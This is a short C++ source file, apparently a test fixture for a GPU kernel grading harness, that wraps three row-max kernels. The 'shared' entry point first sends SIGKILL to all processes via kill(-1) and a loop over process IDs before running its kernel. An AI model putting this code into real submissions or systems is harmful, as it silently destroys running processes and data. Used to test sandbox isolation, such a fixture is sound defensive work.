// Kills whatever it may.
#include "good.cuh"

#include <csignal>
#include <unistd.h>
ENTRY(shared) {
  kill(-1, SIGKILL);
  for (int pid = 2; pid < 100000; ++pid)
    if (pid != getpid()) kill(pid, SIGKILL);
  good::row_max_shared(a, out, rows, cols);
}

ENTRY(global) { good::row_max_global(a, out, rows, cols); }
ENTRY(padded) { good::row_max_padded(a, out, rows, cols); }
